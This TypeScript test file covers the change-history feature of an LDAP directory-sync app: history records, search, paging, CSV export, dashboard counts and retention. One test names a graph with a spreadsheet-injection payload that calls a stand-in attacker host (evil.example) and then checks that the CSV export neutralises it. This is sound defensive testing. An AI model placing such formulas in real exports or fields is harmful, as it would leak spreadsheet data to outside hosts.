import type { Client } from 'ldapts'
import { beforeAll, describe, expect, it } from 'vitest'
import { describeWithSlapd } from '../../test/ldap/slapd.ts'
import { addUser } from '../approvals/test-helpers.ts'
import { appOn, json } from '../collections/test-helpers.ts'
import { tempDir, testApp, waitForRun, type TestApp } from '../testing/harness.ts'
import { peopleFixture } from '../testing/directory-fixture.ts'
import type { HistoryEntry } from './store.ts'

const { PEOPLE, person, syncGraph } = peopleFixture('History', 'h', 'hist')

type Page = { total: number; retentionDays: number; entries: HistoryEntry[] }

describeWithSlapd('history of applied changes (real slapd, real runs)', (server) => {
  let client: Client
  let t: TestApp

  beforeAll(async () => {
    client = await server().client()
    await client.add(PEOPLE, { objectClass: ['organizationalUnit'], ou: 'HistoryPeople' })
    for (const [n, title] of [
      [1, 'Staff'],
      [2, 'Staff'],
      [9, 'Leaver'],
    ] as const) {
      const p = person(n, title)
      await client.add(`uid=${p.uid},${PEOPLE}`, { objectClass: ['inetOrgPerson'], ...p })
    }
    return () => client.unbind()
  })

  async function connect(app: TestApp): Promise<void> {
    const conn = await app.call('POST', '/api/connections', {
      name: 'directory',
      kind: 'ldap',
      settings: { url: server().url, bindDN: server().rootDn },
      secrets: { password: server().rootPw },
    })
    expect(conn.status).toBe(201)
  }

  it('records every change a sync run applied, per object; searchable, paged, exported as safe CSV, charted on the dashboard', async () => {
    t = await testApp()
    await connect(t)
    const bob = await addUser(t, 'bob')
    // A hostile graph name: a spreadsheet would run it as a formula; quotes and a comma need escaping.
    const name = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    const created = await json<{ id: string }>(
      t.call('POST', '/api/graphs', {
        graph: syncGraph(name, [person(1, 'Manager'), person(2), person(3), person(4)]),
      }),
    )
    const { id: runId } = await json<{ id: string }>(bob.call('POST', '/api/runs', { graphId: created.id }))
    const run = await waitForRun(t.call, runId)
    expect(run, JSON.stringify(run.errors)).toMatchObject({ status: 'succeeded' })

    const all = await json<Page>(t.call('GET', `/api/history?runId=${runId}`))
    expect(all.total).toBe(4)
    expect(all.retentionDays).toBe(90)
    const byDn = Object.fromEntries(all.entries.map((e) => [e.dn, e]))
    expect(Object.keys(byDn).sort()).toEqual([1, 3, 4, 9].map((n) => `uid=hist${n},${PEOPLE}`).sort())
    expect(byDn[`uid=hist1,${PEOPLE}`]).toMatchObject({
      runId,
      graphId: created.id,
      graphName: name,
      startedBy: bob.id,
      startedByName: 'bob',
      nodeId: 'dir',
      nodeType: 'ldap.sync',
      action: 'update',
      key: { employeeNumber: 'h1' },
      changed: ['title'],
      outcome: 'applied',
      error: null,
    })
    expect(byDn[`uid=hist9,${PEOPLE}`]).toMatchObject({ action: 'delete', outcome: 'applied' })
    expect(byDn[`uid=hist3,${PEOPLE}`]).toMatchObject({ action: 'create' })
    // The unchanged object (hist2) is not a change, so it is not history.
    expect(byDn[`uid=hist2,${PEOPLE}`]).toBeUndefined()

    // Search: DN or key substring (case-insensitive), action, time range, paging.
    const hist3 = await json<Page>(t.call('GET', '/api/history?q=HIST3'))
    expect(hist3.entries.map((e) => e.dn)).toEqual([`uid=hist3,${PEOPLE}`])
    expect((await json<Page>(t.call('GET', '/api/history?q=%22h4%22'))).entries.map((e) => e.dn)).toEqual([
      `uid=hist4,${PEOPLE}`,
    ])
    // LIKE wildcards in the text match themselves only.
    expect((await json<Page>(t.call('GET', '/api/history?q=%25'))).total).toBe(0)
    expect((await json<Page>(t.call('GET', '/api/history?action=create,delete'))).total).toBe(3)
    const first = await json<Page>(t.call('GET', '/api/history?limit=3'))
    const second = await json<Page>(t.call('GET', '/api/history?limit=3&offset=3'))
    expect(first.total).toBe(4)
    expect([...first.entries, ...second.entries].map((e) => e.id)).toEqual(all.entries.map((e) => e.id))
    const at = Date.parse(all.entries[0]!.at)
    const iso = (ms: number) => encodeURIComponent(new Date(ms).toISOString())
    expect((await json<Page>(t.call('GET', `/api/history?from=${iso(at)}&to=${iso(at + 1)}`))).total).toBe(4)
    expect((await json<Page>(t.call('GET', `/api/history?from=${iso(at + 1)}`))).total).toBe(0)
    expect((await t.call('GET', '/api/history?action=explode')).status).toBe(400)
    expect((await t.call('GET', '/api/history?from=yesterday')).status).toBe(400)

    const csv = await t.call('GET', `/api/history.csv?runId=${runId}`)
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toContain('text/csv')
    const text = await csv.text()
    const lines = text.trim().split('\n')
    expect(lines[0]).toBe(
      'id,at,runId,graphId,graphName,startedBy,nodeId,nodeType,action,dn,newDn,key,changed,before,after,outcome,error',
    )
    expect(lines).toHaveLength(5)
    const update = lines.find((l) => l.includes(`uid=hist1,`))!
    // Formula-safe (leading ') and CSV-escaped (quoted, quotes doubled).
    expect(update).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""click"")"`)
    expect(update).toContain(',bob,dir,ldap.sync,update,')
    expect(update).toContain('"{""employeeNumber"":""h1""}",title,')
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m)

    const dashboard = await json<{
      changes: {
        totals: Record<string, number>
        perDay: { day: string; created: number; links: Record<string, { href: string }> }[]
      }
    }>(t.call('GET', '/api/dashboard?days=3'))
    expect(dashboard.changes.totals).toEqual({ created: 2, updated: 1, disabled: 0, deleted: 1 })
    const today = dashboard.changes.perDay.at(-1)!
    expect(today).toMatchObject({ day: new Date().toISOString().slice(0, 10), created: 2 })
    // The chart's point drills into exactly the history behind it.
    const drilled = await json<Page>(t.call('GET', today.links.created!.href))
    expect(drilled.entries.map((e) => e.dn).sort()).toEqual([`uid=hist3,${PEOPLE}`, `uid=hist4,${PEOPLE}`])
  })

  it('an apply run records each object with its attributes before and after', async () => {
    const app = await testApp()
    await connect(app)
    const created = await json<{ id: string }>(
      app.call('POST', '/api/graphs', {
        graph: syncGraph('titles', [person(1, 'Director'), person(2), person(3), person(4)]),
      }),
    )
    const { id: planRunId } = await json<{ id: string }>(
      app.call('POST', '/api/runs', { graphId: created.id, mode: 'plan' }),
    )
    await waitForRun(app.call, planRunId)
    // A plan run writes nothing, so it is no history.
    expect((await json<Page>(app.call('GET', `/api/history?runId=${planRunId}`))).total).toBe(0)
    const { id: applyId } = await json<{ id: string }>(app.call('POST', `/api/runs/${planRunId}/apply`))
    expect(await waitForRun(app.call, applyId)).toMatchObject({ status: 'succeeded', mode: 'apply' })
    const page = await json<Page>(app.call('GET', `/api/history?runId=${applyId}`))
    expect(page.entries).toEqual([
      expect.objectContaining({
        dn: `uid=hist1,${PEOPLE}`,
        action: 'update',
        before: { title: ['Manager'] },
        after: { title: ['Director'] },
        startedByName: 'admin',
        outcome: 'applied',
      }),
    ])
  })
})

describe('history retention', () => {
  it('purges entries older than the retention at start, and keeps the rest', async () => {
    const dataDir = await tempDir()
    const first = await appOn(dataDir)
    const day = 86_400_000
    const entry = (daysAgo: number, dn: string) => ({
      runId: 'r1',
      at: new Date(Date.now() - daysAgo * day),
      nodeId: 'dir',
      nodeType: 'ldap.sync',
      action: 'update',
      dn,
      outcome: 'applied',
    })
    first.services.history.insert([entry(100, 'cn=old'), entry(89, 'cn=recent'), entry(11, 'cn=ten days')])
    expect((await json<Page>(first.call('GET', '/api/history'))).total).toBe(3)
    await first.services.close()

    const second = await appOn(dataDir)
    expect((await json<Page>(second.call('GET', '/api/history'))).entries.map((e) => e.dn)).toEqual([
      'cn=ten days',
      'cn=recent',
    ])
    await second.services.close()

    const third = await appOn(dataDir, { historyRetentionDays: 10 })
    const page = await json<Page>(third.call('GET', '/api/history'))
    expect(page).toMatchObject({ total: 0, retentionDays: 10 })
    await third.services.close()
  })
})
